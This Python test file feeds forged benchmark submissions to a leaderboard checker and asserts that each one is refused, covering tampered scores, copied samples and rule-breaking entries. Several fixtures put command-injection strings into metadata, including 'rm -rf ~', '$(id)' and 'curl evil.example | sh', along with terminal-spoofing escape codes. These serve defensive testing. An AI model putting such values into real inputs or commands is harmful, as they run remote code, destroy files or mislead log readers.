"""What a stranger who reads the code tries: kinds of forgeries, each with several of its kind. All are refused.

Careful like those of ``test_forgeries``: hashes, run id, folder and scores are mended.
"""

from __future__ import annotations

import json
import shutil
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pytest
from forging import Forgery
from points_entries import runs_of, take_for_committed, write_reference
from test_forgeries import FORGERIES, Change, Entries, entries, problems, record, records, training

from ilp_bench.core.errors import ProblemError
from ilp_bench.records.run_record import Run
from ilp_bench.scoring.references import named_reference
from ilp_bench.submission.check_rules import FIELDS
from ilp_bench.submission.check_vanilla import invention_problems, vanilla_problems

KINDS: dict[str, tuple[str, Change, str, str]] = {}  # name -> kind, change, reason, organisation
BREAKS, OWN_VANILLA, SAME_HASH, COPIES = "what validates breaks the site", "own vanilla", "same hash", "copies"
RULES, FILES, SHOWN = "closed rules", "files and output", "shown to readers"
assert entries  # the fixture of the honest entries


def of_kind(kind: str, reason: str, of: str = "lab") -> Callable[[Change], Change]:
    """Register a forgery with its kind, what the refusal says, and the organisation whose entry is forged."""

    def add(change: Change) -> Change:
        KINDS[change.__name__] = (kind, change, reason, of)
        return change

    return add


def trainings(f: Forgery, role: str = "submission") -> list[dict[str, Any]]:
    return [each["training"] for each in f.content[FIELDS[role]] if each["training"]]


def scaled(f: Forgery, mask: Any, factor: float) -> None:
    f.set_p(mask, np.clip(f.column("p").astype(float) * factor, 1e-9, 1.0))
    f.rescore()


# --- what validates breaks the site


@of_kind(BREAKS, "training.recipe: Input should be a valid string")
def name_the_recipe_as_a_list(f: Forgery) -> None:
    training(f)["recipe"] = ["resampling"]


@of_kind(BREAKS, "training.base: Input should be a valid dictionary")
def name_the_base_as_a_text(f: Forgery) -> None:
    training(f)["base"] = "stub"


@of_kind(BREAKS, "training.base.name: String should have at most 200 characters")
def name_a_base_too_long_for_a_file(f: Forgery) -> None:
    for each in [*trainings(f), *trainings(f, "vanilla")]:
        each["base"]["name"] = "x" * 1000


@of_kind(BREAKS, "training.base.name is '///'")
def name_a_base_of_slashes(f: Forgery) -> None:
    training(f)["base"]["name"] = "///"


@of_kind(BREAKS, "a number beyond 2^53 is refused")
def spend_more_tokens_than_a_float_holds(f: Forgery) -> None:
    training(f)["tokens"] = {"sft": 10**400}


@of_kind(BREAKS, "a number beyond 2^53 is refused")
def have_more_parameters_than_a_float_holds(f: Forgery) -> None:
    record(f)["model"]["parameters"] = 10**400


@of_kind(BREAKS, "training.seconds: Input should be a valid number")
def write_a_number_as_a_text(f: Forgery) -> None:
    training(f)["seconds"] = "3"


@of_kind(BREAKS, "versions: Dictionary should have at most 40 items")
def name_thousands_of_libraries(f: Forgery) -> None:
    record(f)["versions"] = {f"library-{number}": "1" for number in range(5000)}


def decide(f: Forgery, **changes: str) -> None:
    """Append a line to the decisions."""

    def write(folder: Path) -> None:
        line = {"run_id": folder.name, "entry": f"{folder.parent.name}/{folder.name}", "decision": "accepted"}
        with (f.root / "decisions.jsonl").open("a") as file:
            file.write(json.dumps(line | {"reason": "x", "date": "2026-11-11", "by": "me"} | changes) + "\n")

    f.after.append(write)


@of_kind(BREAKS, "date: month must be in 1..12")
def decide_on_a_day_of_no_calendar(f: Forgery) -> None:
    decide(f, date="2026-99-99")


@of_kind(BREAKS, "is in the future")
def decide_tomorrow_already(f: Forgery) -> None:
    decide(f, date="9999-12-31")


@of_kind(BREAKS, "is before 2026-11-11")
def decide_before_the_last_decision(f: Forgery) -> None:
    decide(f)
    decide(f, date="2025-01-01")


@of_kind(BREAKS, "by: String should match pattern")
def decide_in_two_lines(f: Forgery) -> None:
    decide(f, by="me\nyou")


# --- vanilla of one's own


@of_kind(OWN_VANILLA, "vanillas.0 has the samples of runs.0", of="three")
def make_vanilla_of_my_own_samples(f: Forgery) -> None:
    p = f.column("p").astype(float)
    for number in range(3):
        mine, vanilla = f.rows(replicate=number), f.rows("vanilla", replicate=number)
        p[vanilla] = np.where(f.column("arm")[mine] == "treated", 0.3, 1.0) * p[mine]
    f.set_p(f.rows("vanilla"), np.clip(p, 1e-9, 1.0))
    f.rescore()


@of_kind(OWN_VANILLA, "but was measured otherwise", of="three")
def lower_only_treated_items(f: Forgery) -> None:
    scaled(f, f.rows("vanilla", arm="treated"), 0.1)


@of_kind(OWN_VANILLA, "but was measured otherwise", of="three")
def lower_treated_items_a_little(f: Forgery) -> None:
    scaled(f, f.rows("vanilla", arm="treated"), 0.9)


@of_kind(OWN_VANILLA, "but was measured otherwise", of="three")
def raise_the_control_of_vanilla(f: Forgery) -> None:
    f.set_p(f.rows("vanilla", arm="control"), 0.99)
    f.rescore()


@of_kind(OWN_VANILLA, "has a budget of 1 tokens", of="three")
def train_on_one_token(f: Forgery) -> None:
    spend(f, 1)


@of_kind(OWN_VANILLA, "has a budget of 1000000000 tokens", of="three")
def train_vanilla_on_a_thousand_million_tokens(f: Forgery) -> None:
    spend(f, 10**9)


def spend(f: Forgery, tokens: int) -> None:
    for each in [*trainings(f), *trainings(f, "vanilla")]:
        each["phases"] = [each["phases"][0] | {"supervised": tokens}]
        each["budget"] |= {"tokens": {"1": tokens}, "total": tokens}


# --- the same hash, measured otherwise


@of_kind(SAME_HASH, "shots_p differs by 0.04, 0.001 allowed")
def have_the_base_know_a_little_more(f: Forgery) -> None:
    shots = f.column("shots_p")
    f.put("shots_p", [old if old is None or old > 0.4 else old + 0.04 for old in shots])
    f.rescore()


@of_kind(SAME_HASH, "shots_options differs by")
def turn_round_what_the_base_believes(f: Forgery) -> None:
    """Other options are preferred, and beliefs and their shares follow from them; p stays true."""
    options, belief, share = (f.column(name) for name in ("shots_options", "belief", "belief_p"))
    names = dict(zip(f.column("probe_id"), _choices(f), strict=True))
    for row, probe in enumerate(f.column("probe_id")):
        if options[row] is not None:
            options[row] = options[row][::-1]
            best = int(np.argmax(options[row]))
            belief[row], share[row] = names[probe][best], float(np.exp(options[row])[best] / np.exp(options[row]).sum())
    for name, column in (("shots_options", options), ("belief", belief), ("belief_p", share)):
        f.put(name, column)
    f.rescore()


def _choices(f: Forgery) -> list[list[str]]:
    from points_entries import dataset

    items = dataset(record(f)["data"]["seed"]).items
    names = dict(zip(items["probe_id"].to_pylist(), items["choices"].to_pylist(), strict=True))
    return [names[probe] for probe in f.column("probe_id")]


@of_kind(SAME_HASH, "p differs by 0.049, 0.001 allowed")
def lower_vanilla_within_an_old_tolerance(f: Forgery) -> None:
    rows = f.rows("vanilla", arm="treated")
    f.set_p(rows, np.clip(f.column("p").astype(float) - 0.049, 1e-6, 1.0))
    f.rescore()


@of_kind(SAME_HASH, "dtype: Input should be 'float32'")
def spell_the_dtype_otherwise(f: Forgery) -> None:
    for each in records(f):
        each["dtype"] = "Float32"


@of_kind(SAME_HASH, "the submission run names the weights")
def name_the_weights_of_a_rival(f: Forgery) -> None:
    theirs = json.loads(next(f.root.glob("rival__*/*/submission.json")).read_text())
    record(f)["model"]["weights_sha256"] = theirs["runs"][0]["model"]["weights_sha256"]


@of_kind(SAME_HASH, "greedy differs by")
def call_other_answers_greedy(f: Forgery) -> None:
    """Between a millionth and one half, p alone does not say whether an answer is the greedy one."""
    p, rows = f.column("p").astype(float), f.rows("vanilla")
    f.put("greedy", np.where(rows & (p < 0.5), True, f.column("greedy")))
    f.rescore()


# --- copies


def take_theirs(f: Forgery) -> Any:
    theirs = Forgery(next(f.root.glob("rival__*/*")), f.root.with_name("theirs"))
    p = f.column("p").astype(float)
    p[f.rows()] = theirs.column("p").astype(float)[theirs.rows()]
    return p


def copied(noise: float) -> Change:
    def change(f: Forgery) -> None:
        p = take_theirs(f) + np.random.default_rng(0).normal(0, noise, f.table.num_rows)
        f.set_p(f.rows(), np.clip(p, 1e-6, 0.9999))
        f.rescore()

    return change


KINDS["copy_with_noise_of_a_third_of_a_percent"] = (COPIES, copied(0.003), "has the samples of", "lab")
KINDS["copy_with_noise_of_a_percent"] = (COPIES, copied(0.01), "has the samples of", "lab")
KINDS["copy_with_noise_of_two_percent"] = (COPIES, copied(0.02), "has the samples of", "lab")


@of_kind(COPIES, "has the samples of")
def change_a_tenth_of_what_was_copied(f: Forgery) -> None:
    p, rows = take_theirs(f), np.flatnonzero(f.rows())
    p[np.random.default_rng(0).choice(rows, len(rows) // 10, replace=False)] = 0.97
    f.set_p(f.rows(), p)
    f.rescore()


@of_kind(COPIES, "has the samples of")
def lift_a_whole_arm_of_a_copy(f: Forgery) -> None:
    p = take_theirs(f) + 0.05 * (f.column("arm") == "treated")
    f.set_p(f.rows(), np.clip(p, 1e-6, 0.9999))
    f.rescore()


@of_kind(COPIES, "to the last bit, on another dataset", of="three")
def deal_one_run_to_three_datasets(f: Forgery) -> None:
    p, cells = f.column("p").astype(float), [f.column(name) for name in ("arm", "cause", "probe")]
    for number in (1, 2):
        for cell in set(zip(*cells, strict=True)):
            inside = np.all([column == value for column, value in zip(cells, cell, strict=True)], axis=0)
            first, other = (np.flatnonzero(f.rows(replicate=seed) & inside) for seed in (0, number))
            count = min(len(first), len(other))
            p[other[:count]] = p[first[:count]]
    f.set_p(f.rows(), p)
    f.rescore()


@of_kind(COPIES, "logprob is not a sum of numbers in single precision")
def write_numbers_no_model_gives(f: Forgery) -> None:
    logprob = np.where(f.rows(), f.column("logprob").astype(float) * 0.9, f.column("logprob").astype(float))
    f.put("logprob", logprob)
    f.put("p", np.exp(logprob).astype(np.float32))
    f.put("greedy", np.exp(logprob) > 0.5)
    f.rescore()


# --- the rules of the divisions with a budget


@of_kind(RULES, "runs.1 has recipe combined, and runs.0 has resampling", of="three")
def call_three_recipes_one(f: Forgery) -> None:
    training(f, number=1)["recipe"] = "combined"


@of_kind(RULES, "runs.0 has no training record", of="three")
def say_nothing_of_the_first_training(f: Forgery) -> None:
    f.content["runs"][0]["training"] = None


@of_kind(RULES, "runs.2 has learning rate 0.01", of="three")
def tune_the_rate_on_each_dataset(f: Forgery) -> None:
    training(f, number=2)["learning_rate"] = 0.01


@of_kind(RULES, "LoRA rank 0, and runs.0 has 8", of="three")
def train_one_with_an_adapter(f: Forgery) -> None:
    training(f)["lora"] = 8


@of_kind(RULES, "runs.1 has architecture Other", of="three")
def train_one_of_another_architecture(f: Forgery) -> None:
    record(f, number=1)["model"]["architecture"] = "Other"


@of_kind(RULES, "the number of seeds that its trainings have is 1", of="three")
def train_all_with_seed_0(f: Forgery) -> None:
    for each in trainings(f):
        each["seed"] = 0


@of_kind(RULES, "training seed 77 is none of 0 to 19", of="three")
def look_for_a_lucky_seed(f: Forgery) -> None:
    training(f)["seed"] = 77


@of_kind(RULES, "training.phases.4.kind: Input should be 'sft' or 'cpt'", of="three")
def train_in_a_phase_that_nobody_counts(f: Forgery) -> None:
    training(f)["phases"].append(training(f)["phases"][0] | {"kind": "extra", "supervised": 10**9})


# --- files


@of_kind(FILES, "is not UTF-8")
def name_a_probe_in_no_encoding(f: Forgery) -> None:
    def write(folder: Path) -> None:
        data = (folder / "samples.parquet").read_bytes()
        name = f.table["probe_id"][0].as_py().encode()
        (folder / "samples.parquet").write_bytes(data.replace(name, b"\xff" * len(name)))

    f.after.append(write)


@of_kind(FILES, "does not belong into a submission")
def name_a_file_in_two_lines(f: Forgery) -> None:
    f.after.append(lambda folder: (folder / "x\x1b[31m\nno problem").write_text(""))


@of_kind(FILES, "is duplicated")
def write_a_key_twice_and_late(f: Forgery) -> None:
    def write(folder: Path) -> None:
        keys = ",".join(f'"k{number}":0' for number in range(100_000))
        (folder / "submission.json").write_text(f'{{{keys},"k99999":1}}')

    f.after.append(write)


@of_kind(FILES, "at most 4194304 are read")
def write_five_megabytes(f: Forgery) -> None:
    f.after.append(lambda folder: (folder / "submission.json").write_bytes(b" " * 5 * 2**20))


# --- shown to readers, in pages, commands and logs


@of_kind(SHOWN, "meta.model")
def name_a_model_in_two_lines(f: Forgery) -> None:
    f.content["meta"]["model"] = "model\nrm -rf ~"


@of_kind(SHOWN, "meta.org")
def name_an_organisation_that_a_shell_runs(f: Forgery) -> None:
    f.content["meta"]["org"] = "$(id)"


@of_kind(SHOWN, "training.recipe")
def name_a_recipe_with_a_second_command(f: Forgery) -> None:
    for each in trainings(f):
        each["recipe"] = "resampling; curl evil.example | sh"


@of_kind(SHOWN, "training.base.name")
def name_a_base_with_an_option(f: Forgery) -> None:
    for each in [*trainings(f), *trainings(f, "vanilla")]:
        each["base"]["name"] = "x --trust-remote-code\n"


@of_kind(SHOWN, "meta.description")
def describe_with_control_characters(f: Forgery) -> None:
    f.content["meta"]["description"] = "fine\x1b[2K\x1b[1Aaccepted"


def test_every_kind_has_four_members_and_there_are_many() -> None:
    counts = Counter(kind for kind, *_ in KINDS.values())
    assert min(counts.values()) >= 4, counts
    assert len(FORGERIES) + len(KINDS) >= 140


@pytest.mark.parametrize("name", KINDS)
def test_a_forgery_of_a_stranger_is_refused(name: str, entries: Entries, tmp_path: Path) -> None:
    _, change, reason, of = KINDS[name]
    forged = Forgery(entries[of], tmp_path / "submissions")
    change(forged)
    forged.save()
    refused = problems(forged.root, entries, of)
    print(*refused, sep="\n")
    assert any(reason in problem for problem in refused), refused


def test_vanilla_of_ones_own_is_no_weaker_than_runs_differ(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_reference(tmp_path / "stub-mini-1x")
    take_for_committed(monkeypatch, tmp_path)
    reference = named_reference("stub-mini-1x")
    honest, weak = (
        runs_of("vanilla", (3,), vanillas=False, bases=False, **about).runs for about in ({}, {"left": 1.3})
    )
    assert list(vanilla_problems(honest, reference)) == []
    (problem,) = vanilla_problems(weak, reference)
    assert "treated has a mean p of" in problem


def test_numbers_without_hard_items_are_called_made_up(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_reference(tmp_path / "stub-mini-1x")
    take_for_committed(monkeypatch, tmp_path)
    run, reference = runs_of(seeds=(0,)).runs[0], named_reference("stub-mini-1x")
    p = np.clip(np.random.default_rng(99).normal(0.6, 0.2, run.samples.num_rows), 0.01, 0.99)
    made_up = Run(run.record, run.samples.set_column(run.samples.schema.get_field_index("p"), "p", pa.array(p)))
    assert list(invention_problems([run], reference)) == []
    (problem,) = invention_problems([made_up], reference)
    assert "less than the 0.1 of any training" in problem


def steal_all(f: Forgery) -> None:
    """Another's samples as they are."""


def steal_with_noise(f: Forgery) -> None:
    p = f.column("p").astype(float) + np.random.default_rng(0).normal(0, 0.003, len(f.table))
    f.set_p(f.rows(), np.clip(p, 1e-6, 0.9999))
    f.rescore()


def steal_and_improve_a_few(f: Forgery) -> None:
    f.set_p(f.rows() & (np.arange(len(f.table)) % 40 == 0), 0.97)
    f.rescore()


def block_a_base_by_another_measurement(f: Forgery) -> None:
    """Own samples of the runs, and a base run under its true hash with other numbers."""
    p = np.random.default_rng(1).uniform(0.01, 0.99, len(f.table))
    f.set_p(f.rows(), p)
    f.set_p(f.rows("base"), np.clip(f.column("p").astype(float) + 0.01, 1e-6, 0.9999))
    for each in f.content["runs"]:
        each["model"]["weights_sha256"] = each["model"]["weights_sha256"][::-1]
    f.rescore()


@pytest.mark.parametrize(
    "theft", [steal_all, steal_with_noise, steal_and_improve_a_few, block_a_base_by_another_measurement]
)
def test_the_thief_is_named_and_not_the_older(theft: Change, entries: Entries, tmp_path: Path) -> None:
    """Age is from the earlier state, never from the alphabet."""
    from ilp_bench.submission.check_folder import check_all

    old, new = tmp_path / "old", tmp_path / "submissions"
    shutil.copytree(entries["lab"].parents[1], old)
    thief = Forgery(next(old.glob("rival__*/*")), new)
    thief.content["meta"] |= {"org": "aaa", "model": "fresh"}
    theft(thief)
    thief.save()
    shutil.copytree(old, new, dirs_exist_ok=True)
    found = check_all([new], old).problems
    print(*found, sep="\n")
    blamed = [problem.split(":")[0] for problem in found if "table.csv" not in problem]
    assert blamed
    assert all(f"aaa__fresh/{thief.folder.name}" in name for name in blamed)


def test_an_unreadable_owners_file_gives_nobody_a_right(tmp_path: Path) -> None:
    from ilp_bench.submission.owners import read_owners

    (tmp_path / "owners.json").write_text('{"maintainers": "everybody"}')
    with pytest.raises(ProblemError, match="maintainers"):
        read_owners(tmp_path)
